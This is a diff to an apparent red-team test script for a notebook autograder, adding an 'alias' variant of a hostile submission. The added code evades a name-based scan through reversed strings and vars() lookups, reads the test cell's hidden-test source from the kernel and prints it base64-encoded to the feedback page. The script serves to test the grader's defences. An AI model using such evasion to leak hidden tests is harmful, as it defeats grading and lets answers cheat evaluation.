@@ -1,7 +1,7 @@
 """Red team round 16 (hostile): with F8's one-line cell, an answer reads the running test cell's whole source
 (hidden tests included) from the kernel's parent message and copies it, base64-encoded, to the feedback page.
 
-    timeout 1800 python tests/redteam/round16/hostile/feedback_exfil.py [--plain]
+    timeout 1800 python tests/redteam/round16/hostile/feedback_exfil.py [--plain | --alias]
 
 With --plain, Part 3's answer is an ordinary code cell: `import builtins` and `builtins.get_ipython()` (F2's
 route: the scan flags `get_ipython` only as a bare name), no automagic needed.
@@ -40,6 +40,21 @@ def causal_mask(t, s, offset):
 '''
 
 
+# the same through names the scan does not follow (02-attacks.py's FORGE2 route): for the lead's working tree of 09:40
+ALIAS_CODE = '''import torch, base64, sys
+s_alias = sys
+def back(t):
+    return t[::-1]
+def causal_mask(t, s, offset):
+    m = vars(s_alias)["modules"][back("__niam__")]
+    k = getattr(vars(m)[back("nohtypi_teg")](), "kernel")
+    parent = getattr(k, back("tnerap_teg"))("shell")
+    code = parent.get("content", {}).get("code", "")
+    print("EXFIL<" + base64.b64encode(code.encode()).decode() + ">")
+    return torch.arange(s)[None, :] <= (offset + torch.arange(t))[:, None]
+'''
+
+
 def one_line(code):
     return '"' + code.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace(" ", "\\x20") + '"'
 
@@ -56,7 +71,8 @@ def main():
         os.environ.pop("ATTNLAB_GRADEBOOK_URL", None)
         assert cli("release")[0] == 0
         write_submission(CHAPTER, tmp / "download" / "honest_exercises.ipynb", {})
-        spy = CODE if "--plain" in sys.argv else "time exec(" + one_line(CODE) + ")"
+        spy = (CODE if "--plain" in sys.argv else ALIAS_CODE if "--alias" in sys.argv
+               else "time exec(" + one_line(CODE) + ")")
         write_submission(CHAPTER, tmp / "download" / "spy_exercises.ipynb", {"causal_mask": spy})
         print("collect", cli("collect", CHAPTER, str(tmp / "download"))[0])
         status, out, err = cli("autograde", CHAPTER, "--workers", "1")
